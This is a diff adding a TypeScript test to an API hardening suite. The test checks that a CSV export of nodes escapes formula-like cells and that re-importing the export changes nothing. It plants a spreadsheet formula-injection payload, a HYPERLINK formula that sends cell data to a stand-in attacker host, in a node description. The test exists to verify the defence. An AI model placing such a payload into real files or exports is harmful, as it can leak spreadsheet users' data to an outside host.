@@ -239,5 +239,34 @@ export function hardeningApiSuite(make: MakeController): void {
       expect(await c.revision()).toBe(revision);
       expect(await databaseErrors(c)).toBe(before);
     });
+
+    it("exports nodes.csv with formula-like cells escaped, re-importing to no change", async () => {
+      const c = await make();
+      expectOk(await c.call(c.admin, "POST", "/api/v1/apply", { body: corpYaml() }));
+      const node = (await c.call(c.admin, "GET", "/api/v1/nodes/branch-sha")).json() as {
+        metadata: object;
+        spec: Record<string, unknown>;
+      };
+      const description = '=HYPERLINK("https://attacker.example/?x="&A1,"open")';
+      expectOk(
+        await c.call(c.admin, "PUT", "/api/v1/nodes/branch-sha", {
+          body: {
+            apiVersion: "hubwire/v1",
+            kind: "Node",
+            metadata: node.metadata,
+            spec: { ...node.spec, description },
+          },
+        }),
+      );
+      const csv = await c.call(c.tokens.viewer.credential, "GET", "/api/v1/export/nodes.csv");
+      expectOk(csv);
+      const line = csv.body.split("\n").find((l) => l.startsWith("branch-sha,"))!;
+      expect(line).toContain(`"'=HYPERLINK(""https://attacker.example/?x=""&A1,""open"")"`);
+      const again = await c.call(c.admin, "POST", "/api/v1/import?dryRun=true", {
+        body: { format: "csv", text: csv.body },
+      });
+      expectOk(again);
+      expect((again.json() as { changes: unknown[] }).changes).toEqual([]);
+    });
   });
 }
